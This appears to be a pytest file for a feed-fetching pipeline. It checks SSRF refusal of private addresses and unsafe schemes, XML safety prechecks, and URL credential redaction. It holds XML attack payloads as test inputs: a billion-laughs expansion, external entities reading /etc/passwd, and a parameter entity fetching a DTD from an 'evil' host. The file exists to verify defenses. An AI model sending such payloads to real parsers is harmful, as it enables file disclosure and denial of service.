"""HTTP fetching against a scripted local server: retries, backoff, caps, redirects, safety."""

from __future__ import annotations

import gzip

import pytest

from pipeline.sources.safety import UnsafeURLError, precheck_xml, resolve_public

RSS = b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title></channel></rss>'


@pytest.mark.parametrize("url", ["http://10.1.2.3/f", "http://[::1]/f",
                                 "http://0.0.0.0/f", "http://192.168.0.1/f", "http://[::ffff:127.0.0.1]/f",
                                 "http://100.64.0.1/f"])


def test_resolve_public_refuses_non_public(url: str) -> None:
    with pytest.raises(UnsafeURLError) as err:
        resolve_public(url, allow_private=False)
    assert err.value.reason == "private_address"


def test_resolve_public_schemes_and_public_literals() -> None:
    assert resolve_public("http://93.184.216.34/feed?x=1", allow_private=False).path == "/feed?x=1"
    for url in ("ftp://93.184.216.34/f", "file:///etc/passwd", "gopher://x/"):
        with pytest.raises(UnsafeURLError) as err:
            resolve_public(url, allow_private=False)
        assert err.value.reason == "unsafe_scheme"


def test_precheck_refuses_entity_tricks_and_item_floods() -> None:
    laughs = (b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]>'
              b"<rss><channel><item><title>&b;</title></item></channel></rss>")
    assert precheck_xml(laughs).reason == "xml_entities"
    external = b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>'
    assert precheck_xml(external).reason == "xml_entities"
    param = b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><rss/>'
    assert precheck_xml(param).reason == "xml_entities"
    utf16 = laughs.decode().replace('version="1.0"', 'version="1.0" encoding="utf-16"').encode("utf-16")
    assert precheck_xml(utf16).reason == "xml_entities"
    simple = b'<!DOCTYPE rss [<!ENTITY id "tag:example.com,">]><rss><channel><item><guid>&id;1</guid></item></channel></rss>'
    assert precheck_xml(simple).ok
    flood = b"<rss><channel>" + b"<item><title>x</title></item>" * 11 + b"</channel></rss>"
    assert precheck_xml(flood, max_items=10).reason == "too_many_items"
    assert precheck_xml(flood, max_items=11).ok
    assert gzip.decompress(gzip.compress(RSS)) == RSS


def test_redactor_covers_text_and_urls() -> None:
    from pipeline.redact import Redactor, redact_url

    assert redact_url("https://u:p@h.example/f?api_key=1&page=2#x") == "https://h.example/f?api_key=REDACTED&page=2#x"
    assert redact_url("https://h.example/f?page=2") == "https://h.example/f?page=2"
    r = Redactor.of(["tok-abcdef"], ["custom"])
    assert r.text("GET https://h.example/f?custom=zz failed; sent tok-abcdef") == \
        "GET https://h.example/f?custom=REDACTED failed; sent REDACTED"
